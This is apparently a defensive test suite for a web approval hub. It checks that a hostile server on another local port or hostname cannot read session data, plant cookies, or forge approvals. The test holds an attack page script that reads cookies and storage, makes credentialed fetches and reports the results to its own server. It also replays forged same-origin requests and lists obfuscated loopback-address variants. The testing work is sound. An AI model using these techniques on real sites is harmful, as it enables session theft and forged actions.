// Servers on another port and under another name of this machine get nothing that gives power over the hub (S7): whatever a
// logged-in browser sends them by a click, a form, a prefetch, an image, a frame or a WebSocket is replayed against the hub.

import assert from "node:assert/strict";
import { request, createServer } from "node:http";
import { connect } from "node:net";
import { after, before, test } from "node:test";
import { Hub, until } from "../../clients/typescript/live/hub.mjs";
import { field } from "./away.mjs";
import { Browser, loginLink } from "./browser.mjs";

let hub;
let browser;

before(async () => {
  hub = await Hub.start();
  browser = await Browser.start();
});

after(async () => {
  await browser?.end();
  await hub?.end();
});

/** A server that keeps everything it gets, and serves a page that reaches for all it can. */
class Elsewhere {
  /** Each call: its method, path and headers. */
  got = [];

  static async start(pageOf) {
    const server = new Elsewhere();
    server.http = createServer((call, answer) => {
      server.got.push({ method: call.method, path: call.url, headers: call.headers });
      const isPage = call.url === "/clicked";
      // A server may also set cookies for the whole host, under our names.
      const cookies = ["askback_plain=planted; Path=/", "askback_session=planted; Path=/"];
      answer.writeHead(200, { "content-type": isPage ? "text/html" : "text/plain", "set-cookie": cookies });
      answer.end(isPage ? pageOf(server) : "");
    });
    server.http.on("upgrade", (call, socket) => {
      server.got.push({ method: "WEBSOCKET", path: call.url, headers: call.headers });
      socket.destroy();
    });
    await new Promise((listening) => server.http.listen(0, "127.0.0.1", listening));
    return server;
  }

  get port() {
    return this.http.address().port;
  }

  end() {
    this.http.closeAllConnections();
    this.http.close();
  }
}

/** A page that reaches for itself and for the hub in every way there is, and tells its server what came back. */
const pageOf = (hub) => (server) => `<!doctype html><title>elsewhere</title>
  <link rel="prefetch" href="/prefetch"><link rel="preload" as="fetch" href="/preload"><link rel="dns-prefetch" href="//x">
  <img src="/image"><iframe src="/frame-own"></iframe><iframe src="${hub.origin}/"></iframe><iframe src="${hub.origin}/plain"></iframe>
  <form id="own" method="post" action="/form"><input name="a" value="b"></form>
  <script>
    const tell = (what) => fetch("/tell?" + encodeURIComponent(JSON.stringify(what)));
    const attempt = async (name, work) => { try { await tell([name, await work()]); } catch (error) { await tell([name, "refused"]); } };
    (async () => {
      await attempt("cookie", () => document.cookie);
      await attempt("storage", async () => JSON.stringify(await indexedDB.databases()));
      await attempt("me", async () => (await fetch("${hub.origin}/api/v1/me", { credentials: "include" })).text());
      await attempt("opaque", async () => (await fetch("${hub.origin}/api/v1/requests", { mode: "no-cors", credentials: "include" })).type);
      new WebSocket("ws://" + location.host + "/socket");
      await attempt("sync", () => new Promise((done) => { const s = new WebSocket("${hub.sync}/@inbox"); s.onmessage = () => done("heard"); s.onclose = ({ code }) => done("closed " + code); }));
      await attempt("sessions", async () => (await fetch("${hub.origin}/api/v1/sessions", { method: "POST", body: '{"code":"x","redeem":true}' })).text());
      // Below paths that look like those of the page without scripts, if the browser has a cookie there.
      for (const path of ["/plain", "/plain/", "/plain/login", "/plain/AAAAAAAAAAAAAAAAAAAAAA/"]) await fetch(path);
      await tell(["done", ""]);
      document.getElementById("own").submit();
    })();
  </script>`;

/** One call of the hub, with any headers at all. */
function call(method, path, headers, body = "") {
  return new Promise((resolve, reject) => {
    const { port } = new URL(hub.origin);
    const sent = request({ host: "127.0.0.1", port, method, path, headers }, (answer) => {
      let text = "";
      answer.on("data", (data) => (text += data));
      answer.on("end", () => resolve({ status: answer.statusCode, text }));
      // An event stream does not end by itself.
      if (answer.statusCode === 200 && /event-stream/.test(answer.headers["content-type"])) resolve({ status: 200, text: "" });
    });
    sent.on("error", reject);
    sent.end(body);
  });
}

/** The code with which the hub closes a WebSocket that is opened with these headers, or 0 if it lets it stay. */
function socket(headers) {
  return new Promise((resolve) => {
    const { host, port } = new URL(hub.origin);
    const stream = connect(Number(port), "127.0.0.1");
    const all = { Host: host, Connection: "Upgrade", Upgrade: "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", ...headers };
    stream.write(`GET /sync/@inbox HTTP/1.1\r\n${Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`).join("")}\r\n`);
    let said = Buffer.alloc(0);
    stream.on("data", (data) => {
      said = Buffer.concat([said, data]);
      const end = said.indexOf("\r\n\r\n");
      if (end < 0) return;
      const isOpen = said.toString().startsWith("HTTP/1.1 101");
      const frame = said.subarray(end + 4);
      if (isOpen && frame.length < 4) return;
      if (!isOpen) resolve(Number(said.subarray(9, 12)));
      else resolve(frame[0] === 0x88 ? frame.readUInt16BE(2) : 0);
      stream.destroy();
    });
  });
}

/** Replays what a server has got as if it were the hub's own page, and says what the hub did. */
async function replay(got, id) {
  const { host } = new URL(hub.origin);
  const done = [];
  const answer = JSON.stringify({ responses: ["approve"] });
  for (const { path, headers } of got) {
    const { connection, upgrade, "content-length": length, ...rest } = headers;
    const forged = { ...rest, host, origin: hub.origin, referer: `${hub.origin}/`, "sec-fetch-site": "same-origin" };
    for (const target of ["/api/v1/me", "/api/v1/requests", `/api/v1/requests/${id}`, `/api/v1/requests/${id}/request`, "/api/v1/audit", "/api/v1/events", "/plain/AAAAAAAAAAAAAAAAAAAAAA/", path]) {
      const { status, text } = await call("GET", target, forged);
      if (text.includes("Delete everything") || (target.startsWith("/api") && status !== 401)) done.push(["read", target, status]);
    }
    for (const [target, body] of [[`/api/v1/requests/${id}/answer`, answer], [`/api/v1/requests/${id}/decline`, "{}"], ["/api/v1/login-links", "{}"], ["/api/v1/logout", ""], [`/plain/AAAAAAAAAAAAAAAAAAAAAA/${id}`, "form=answer&q0=approve"]]) {
      const { status } = await call("POST", target, forged, body);
      if (status < 400) done.push(["did", target, status]);
    }
    const code = await socket({ Origin: hub.origin, ...(headers.cookie ? { Cookie: headers.cookie } : {}), ...(headers["sec-websocket-protocol"] ? { "Sec-WebSocket-Protocol": headers["sec-websocket-protocol"] } : {}) });
    if (code !== 4401) done.push(["connected", path, code]);
  }
  return done;
}

for (const [where, name] of [["another port", "127.0.0.1"], ["another name", "localhost"], ["a name below localhost", "tool.localhost"]]) {
  test(`S7 a server on ${where} gets nothing that reads or answers`, async () => {
    const server = await Elsewhere.start(pageOf(hub));
    const address = `http://${name}:${server.port}`;
    try {
      const context = [{ type: "markdown", text: `See [the plan](${address}/clicked).` }];
      const id = await hub.ask({ room: "shop", type: "approval", message: "Delete everything?", context });
      const page = await browser.open(hub, `/r/${id}`);
      // A session of the page without scripts is in the same browser.
      const plain = await page.context().newPage();
      await plain.goto(await loginLink(hub, hub.person, { plain: true }));
      await plain.getByRole("button", { name: "Log in" }).click();
      await plain.waitForURL(/\/plain\/[\w-]{22}\/$/);
      await page.getByRole("link", { name: "the plan" }).click();
      const told = () => server.got.filter(({ path }) => path.startsWith("/tell?")).map(({ path }) => JSON.parse(decodeURIComponent(path.slice(6))));
      await until("the page elsewhere has tried everything", () => told().some(([what]) => what === "done"));
      await until("its form is sent", () => server.got.some(({ method, path }) => method === "POST" && path === "/form"));
      await until("its socket is opened", () => server.got.some(({ method }) => method === "WEBSOCKET"));
      // What it could read by itself.
      const heard = Object.fromEntries(told());
      assert.deepEqual([heard.me, heard.sessions], ["refused", "refused"], JSON.stringify(heard));
      assert.match(heard.sync, /^closed/);
      assert.ok(!/askback/.test(heard.storage), "another origin has another storage");
      for (const path of ["/clicked", "/image", "/prefetch", "/frame-own", "/form", "/socket", "/plain/"]) {
        assert.ok(server.got.some((one) => one.path === path), `the control: it got ${path}`);
      }
      const [, secret] = await page.evaluate(
        () =>
          new Promise((resolve) => {
            const opening = indexedDB.open("askback-session");
            opening.onsuccess = () => {
              const reading = opening.result.transaction("session").objectStore("session").get("current");
              reading.onsuccess = () => resolve(["secret", reading.result.secret]);
            };
          }),
      );
      const all = JSON.stringify(server.got);
      assert.ok(!all.includes(secret), "the session's secret never got there");
      assert.ok(!all.includes(new URL(plain.url()).pathname), "nor the path of the page without scripts");
      const cookies = await plain.context().cookies(plain.url());
      const own = cookies.find(({ name, value }) => name === "askback_plain" && value !== "planted");
      assert.ok(own && !all.includes(own.value), "nor its cookie");
      assert.deepEqual(await replay(server.got, id), [], "nothing of it reads or does anything");
      assert.equal((await hub.outcome(id)).status, "pending");
      // The cookies that it planted keep nobody out.
      await plain.reload();
      await plain.getByRole("link", { name: "Delete everything?" }).first().waitFor();
      // The control: the same calls with the session do.
      const { status } = await call("GET", "/api/v1/me", { host: new URL(hub.origin).host, authorization: `Bearer ${secret}` });
      assert.equal(status, 200);
      await page.context().close();
    } finally {
      server.end();
    }
  });
}

test("S7 links to the hub itself are text in what agents write, and other links stay links", async () => {
  const { port, host } = new URL(hub.origin);
  const own = [
    hub.origin,
    `${hub.origin}/login#code=x`,
    `http://localhost:${port}/`,
    `http://LOCALHOST:${port}/plain`,
    `http://a.localhost:${port}/`,
    `http://[::1]:${port}/`,
    `http://127.1:${port}/`,
    `http://0x7f000001:${port}/`,
    `http://[::ffff:127.0.0.1]:${port}/`,
    `http://0.0.0.0:${port}/`,
    `http://user@${host}/`,
    `https://${host}/`,
  ];
  const others = ["http://127.0.0.1:1/", "https://example.com/", `https://example.com:${port}/`, `http://localhost.example.com:${port}/`];
  const text = [...own, ...others].map((address, index) => `- [link ${index}](${address})`).join("\n");
  const id = await hub.ask({ room: "shop", type: "text", message: "What shall it be called?", context: [{ type: "markdown", text }] });
  const page = await browser.open(hub, `/r/${id}`);
  await field(page).waitFor();
  const found = await page.locator("a", { hasText: /^link \d+$/ }).allTextContents();
  assert.deepEqual(found, others.map((_, index) => `link ${own.length + index}`));
  for (let index = 0; index < own.length; index += 1) await page.getByText(`link ${index}`, { exact: true }).waitFor();
  assert.deepEqual(page.problems, []);
});
